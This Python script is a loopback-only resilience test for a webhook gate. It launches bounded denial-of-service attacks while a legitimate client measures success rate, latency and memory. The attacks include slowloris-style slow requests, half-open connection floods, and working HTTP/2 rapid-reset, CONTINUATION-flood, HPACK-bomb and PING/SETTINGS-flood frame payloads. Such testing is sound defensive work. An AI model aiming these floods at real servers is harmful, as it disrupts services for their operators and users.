#!/usr/bin/env python3
"""Attacks on a running gate, each for a bounded time, with a good sender beside it.

Only loopback; every process that is started here is ended here. scripts/abuse.sh starts the gate and calls this.
Exit code 1 when a request of the good sender failed.
"""
import http.client
import json
import multiprocessing
import pathlib
import socket
import ssl
import struct
import sys
import time

PATH = b"/hooks/wake"
# Source addresses of the attackers; the good sender has 127.0.0.1.
SOURCES = [f"127.0.1.{number}" for number in range(1, 21)]


def context(certs, name, alpn="http/1.1"):
    tls = ssl.create_default_context(cafile=certs / "ca.pem")
    if name:
        tls.load_cert_chain(certs / f"{name}.pem", certs / f"{name}.key")
    tls.set_alpn_protocols([alpn])
    return tls


# --- the good sender: half of its requests on one connection, half on connections of their own ---

def good(certs, port, seconds, result):
    tls = context(certs, "client")
    times, failed, first = [], 0, None
    kept, end, number = None, time.monotonic() + seconds, 0
    while time.monotonic() < end:
        number += 1
        start = time.perf_counter()
        try:
            fresh = number % 2 == 0
            if kept is None or fresh:
                connection = http.client.HTTPSConnection("localhost", port, context=tls, timeout=5)
            else:
                connection = kept
            connection.request("POST", PATH.decode(), b'{"text":"good"}')
            answer = connection.getresponse()
            answer.read()
            if answer.status != 200:
                raise OSError(f"status {answer.status}")
            if fresh:
                connection.close()
            else:
                kept = connection
            times.append(time.perf_counter() - start)
        except (OSError, http.client.HTTPException) as error:
            failed, first, kept = failed + 1, first or repr(error), None
        time.sleep(0.01)
    result.put((times, failed, first))


# --- attacks: each runs until `end` ---

def connect(port, source):
    raw = socket.socket()
    raw.settimeout(2)
    raw.bind((source, 0))
    raw.connect(("127.0.0.1", port))
    return raw


def secured(tls, port, source):
    return tls.wrap_socket(connect(port, source), server_hostname="localhost")


def hold(end, count, opened, feed=None, pause=0.5):
    """Keeps `count` connections open, and feeds each now and then; those that the gate closes are opened again."""
    held, made = [], 0
    while time.monotonic() < end:
        while len(held) < count and time.monotonic() < end:
            try:
                one = opened(made)
                one.setblocking(False)
                held.append(one)
            except OSError:
                pass
            made += 1
        still = []
        for one in held:
            try:
                if feed:
                    one.send(feed)
                elif one.recv(1) == b"":
                    raise ConnectionResetError
                still.append(one)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                still.append(one)
            except OSError:
                one.close()
        held = still
        time.sleep(pause)
    return f"{made} connections"


def half_open(certs, port, end):
    return hold(end, 10_000, lambda number: connect(port, SOURCES[number % len(SOURCES)]))


def slow_hello(certs, port, end):
    def opened(number):
        one = connect(port, SOURCES[number % len(SOURCES)])
        one.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        return one
    return hold(end, 2000, opened, b"\0")


def no_certificate(certs, port, end):
    tls, made = context(certs, None), 0
    while time.monotonic() < end:
        try:
            with secured(tls, port, SOURCES[0]) as one:
                one.recv(1)
        except OSError:
            pass
        made += 1
    return f"{made} handshakes"


def slow_head(certs, port, end):
    tls = context(certs, "client-rsa")
    def opened(number):
        one = secured(tls, port, SOURCES[number % len(SOURCES)])
        one.send(b"POST /hooks/wake HTTP/1.1\r\nHost: localhost\r\nX: ")
        return one
    return hold(end, 400, opened, b"x")


def slow_body(certs, port, end):
    tls = context(certs, "client-rsa")
    def opened(number):
        one = secured(tls, port, SOURCES[number % len(SOURCES)])
        one.send(b"POST /hooks/wake HTTP/1.1\r\nHost: localhost\r\nContent-Length: 200000\r\n\r\n")
        return one
    return hold(end, 400, opened, b"x")


def slow_reader(certs, port, end):
    tls, one = context(certs, "client-rsa"), b"POST /hooks/wake HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n\r\n"
    def opened(number):
        reader = secured(tls, port, SOURCES[number % len(SOURCES)])
        reader.send(one * 200)
        return reader
    return hold(end, 200, opened, one * 50)


# --- HTTP/2 (RFC 9113), frame by frame ---

HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
# RFC 7541: POST, https, then path and authority as literals.
FIELDS = b"\x83\x87\x04" + bytes([len(PATH)]) + PATH + b"\x01\x09localhost"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def frames(settings=b""):
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings)


def flood(certs, port, end, piece, settings=b"", pause=0.0):
    """Sends pieces on one connection after the other, as fast as the gate takes them; reads nothing."""
    tls, sent, connections = context(certs, "client-rsa", "h2"), 0, 0
    while time.monotonic() < end:
        try:
            with secured(tls, port, SOURCES[connections % len(SOURCES)]) as one:
                connections += 1
                one.sendall(frames(settings))
                number = 0
                while time.monotonic() < end:
                    data = piece(number)
                    if data:
                        one.sendall(data)
                        sent += len(data)
                    number += 1
                    time.sleep(pause)
        except OSError:
            pass
    return f"{connections} connections, {sent // 1024} KiB"


def rapid_reset(certs, port, end):
    def piece(number):
        pairs = b""
        for place in range(100):
            stream = 2 * (number * 100 + place) + 1
            pairs += frame(HEADERS, END_STREAM | END_HEADERS, stream, FIELDS)
            pairs += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        return pairs
    return flood(certs, port, end, piece)


def continuation(certs, port, end):
    field = b"\0\x01x\x7f\x81\x7c" + b"y" * 16_000
    def piece(number):
        first = frame(HEADERS, END_STREAM, 1, FIELDS) if number == 0 else b""
        return first + frame(CONTINUATION, 0, 1, field)
    return flood(certs, port, end, piece)


def hpack_bomb(certs, port, end):
    bomb = FIELDS + b"\x40\x01x\x7f\xb9\x16" + b"y" * 3000 + bytes([0x80 | 62]) * 15_000
    def piece(number):
        stream = 2 * number + 1
        return frame(HEADERS, END_STREAM, stream, bomb[:16_000]) + frame(CONTINUATION, END_HEADERS, stream, bomb[16_000:])
    return flood(certs, port, end, piece)


def pings(certs, port, end):
    return flood(certs, port, end, lambda number: frame(PING, 0, 0, b"12345678") * 500)


def settings(certs, port, end):
    return flood(certs, port, end, lambda number: frame(SETTINGS, 0, 0) * 500)


def zero_window(certs, port, end):
    # SETTINGS_INITIAL_WINDOW_SIZE = 0: no answer can be sent.
    tls = context(certs, "client-rsa", "h2")
    streams = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, FIELDS) for n in range(100))
    def opened(number):
        one = secured(tls, port, SOURCES[number % len(SOURCES)])
        one.sendall(frames(struct.pack(">HI", 4, 0)) + streams)
        return one
    return hold(end, 100, opened, frame(PING, 0, 0, b"12345678"))


ATTACKS = [
    ("none", None),
    ("10,000 half-open handshakes", half_open),
    ("ClientHellos in drops", slow_hello),
    ("handshakes without a certificate", no_certificate),
    ("heads in drops", slow_head),
    ("bodies in drops", slow_body),
    ("answers that are not read", slow_reader),
    ("HTTP/2 rapid reset", rapid_reset),
    ("CONTINUATION flood", continuation),
    ("HPACK bomb", hpack_bomb),
    ("PING flood", pings),
    ("SETTINGS flood", settings),
    ("zero-window stall", zero_window),
]


def attack_until(function, certs, port, end, result):
    result.put(function(certs, port, end))


def peak_mib(pid):
    status = pathlib.Path(f"/proc/{pid}/status").read_text()
    line = next(line for line in status.splitlines() if line.startswith("VmHWM:"))
    return int(line.split()[1]) / 1024


def main():
    certs, port, pid, seconds = pathlib.Path(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    spawn = multiprocessing.get_context("spawn")
    all_good, rows = True, []
    print(f"{'attack':34} {'good':>9} {'p99':>9} {'peak':>9}  the attacker made")
    for name, function in ATTACKS:
        # Begins to count the peak anew.
        pathlib.Path(f"/proc/{pid}/clear_refs").write_text("5")
        results, told = spawn.Queue(), spawn.Queue()
        processes = [spawn.Process(target=good, args=(certs, port, seconds, results))]
        if function:
            end = time.monotonic() + seconds
            processes.append(spawn.Process(target=attack_until, args=(function, certs, port, end, told)))
        for process in reversed(processes):
            process.start()
        times, failed, first = results.get(timeout=seconds + 30)
        made = told.get(timeout=30) if function else ""
        for process in processes:
            process.join(10)
            if process.is_alive():
                process.kill()
        times.sort()
        share = 100 * len(times) / max(1, len(times) + failed)
        p99 = 1000 * times[int(len(times) * 0.99)] if times else float("inf")
        peak = peak_mib(pid)
        rows.append({"attack": name, "good": len(times), "failed": failed, "p99_ms": p99, "peak_mib": peak})
        print(f"{name:34} {share:8.2f}% {p99:6.1f} ms {peak:5.0f} MiB  {made}", flush=True)
        if failed or not times:
            all_good = False
            print(f"  {failed} of the good sender's requests failed, the first with {first}")
    if len(sys.argv) > 5:
        pathlib.Path(sys.argv[5]).write_text(json.dumps(rows, indent=1) + "\n")
    sys.exit(0 if all_good else 1)


if __name__ == "__main__":
    main()
